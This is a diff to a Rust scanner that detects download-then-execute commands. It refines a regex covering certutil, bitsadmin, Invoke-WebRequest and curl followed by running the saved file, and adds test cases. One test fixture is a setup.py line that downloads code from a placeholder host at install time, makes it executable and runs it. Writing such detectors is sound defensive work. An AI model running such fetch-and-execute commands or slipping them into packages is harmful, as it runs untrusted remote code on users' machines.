@@ -6,7 +6,7 @@
 //! statement runs, however far apart (data flow by name: same function, or a module-level
 //! name); a command string or script that downloads and then starts what it saved
 //! (`DownloadFile`/`Invoke-WebRequest -OutFile` + `Start-Process`, `certutil -urlcache`
-//! / `bitsadmin /transfer` then the `.exe`, `curl -o x && chmod +x x`). Command strings
+//! / `bitsadmin /transfer` then the `.exe`, `curl -o x && chmod +x x && ./x`). Command strings
 //! shown to a person (help text, `print`, log lines) are not commands.
 //!
 //! Python code only for calls; strings for one-liners. Never skipped (this is the
@@ -48,7 +48,7 @@ static RUN_SAVED: LazyLock<Regex> = LazyLock::new(|| {
 /// `Invoke-WebRequest -OutFile` then `Start-Process`, `certutil -urlcache` / `bitsadmin
 /// /transfer` then the file, `curl -o x && ./x`.
 static DROP_RUN: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r#"(?i)(?:\.downloadfile\s*\(|invoke-webrequest(?-u:\b)[^\n]*-outfile|(?-u:\b)iwr\s[^\n]*-outfile|start-bitstransfer|certutil(?:\.exe)?\s+-urlcache|bitsadmin(?:\.exe)?\s+/transfer|(?-u:\b)curl\s[^\n]*\s-o\s*\S+|(?-u:\b)wget\s[^\n]*\s-O\s*[^\s-]\S*)[\s\S]{0,300}?(?P<run>start-process|(?-u:\b)saps\s|invoke-item|(?:&&|;|\n)\s*(?:start\s+\S+|\S+\.exe|(?:ba|z)?sh\s+\S+|python[\d.]*\s+\S+|\./\S+|chmod\s+\+x))"#)
+    Regex::new(r#"(?i)(?:\.downloadfile\s*\(|invoke-webrequest(?-u:\b)[^\n]*-outfile|(?-u:\b)iwr\s[^\n]*-outfile|start-bitstransfer|certutil(?:\.exe)?\s+-urlcache|bitsadmin(?:\.exe)?\s+/transfer|(?-u:\b)curl\s[^\n]*\s-o\s*[^\s'"]+|(?-u:\b)wget\s[^\n]*\s-O\s*[^\s-][^\s'"]*)[\s\S]{0,300}?(?P<run>start-process|(?-u:\b)saps\s|invoke-item|(?:&&|;|\n)\s*(?:start\s+[^\s'"]+|[^\s'"]+\.exe|(?:ba|z)?sh\s+[^\s'"]+|python[\d.]*\s+[^\s'"]+|\.?/[^\s'"]+))"#)
         .expect("drop run")
 });
 /// Where a downloaded body is saved: the path argument of a save call or of a
@@ -370,7 +370,14 @@ mod tests {
                     "setup.py",
                     InstallTime,
                     "import os\nos.system('curl -fsSL https://example.org/a -o /tmp/a && chmod +x /tmp/a && /tmp/a')\n",
-                    Some((2, "curl then chmod", Critical)),
+                    Some((2, "curl then /tmp/a", Critical)),
+                ),
+                (
+                    "download and chmod +x without running (a Makefile regenerating a script)",
+                    "pkg-1.0/Makefile",
+                    Other,
+                    "regen:\n\tcurl -sL -o config.guess 'https://example.org/config.guess'\n\tchmod +x config.guess\n",
+                    None,
                 ),
                 (
                     "install hint in CLI help text",
